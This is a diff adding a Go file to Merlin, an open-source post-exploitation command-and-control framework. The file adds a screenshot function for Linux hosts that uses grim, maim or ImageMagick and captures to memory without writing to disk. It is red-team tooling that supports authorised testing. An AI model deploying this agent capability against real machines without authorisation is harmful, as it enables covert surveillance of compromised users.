@@ -0,0 +1,50 @@
+//go:build !windows && !darwin
+// +build !windows,!darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"os/exec"
+)
+
+// captureScreen takes a PNG screenshot with the first available of grim on Wayland, or maim or ImageMagick's import on
+// X11. The tools write the image to standard output so nothing is written to disk
+func captureScreen() ([]byte, error) {
+	var tools [][]string
+	if os.Getenv("WAYLAND_DISPLAY") != "" {
+		tools = append(tools, []string{"grim", "-"})
+	}
+	if os.Getenv("DISPLAY") != "" {
+		tools = append(tools, []string{"maim"}, []string{"import", "-window", "root", "png:-"})
+	}
+	if len(tools) == 0 {
+		return nil, fmt.Errorf("neither the DISPLAY nor the WAYLAND_DISPLAY environment variable is set")
+	}
+	for _, tool := range tools {
+		if _, err := exec.LookPath(tool[0]); err != nil {
+			continue
+		}
+		return exec.Command(tool[0], tool[1:]...).Output() // #nosec G204 the tools are constant
+	}
+	return nil, fmt.Errorf("none of grim, maim, or import are installed")
+}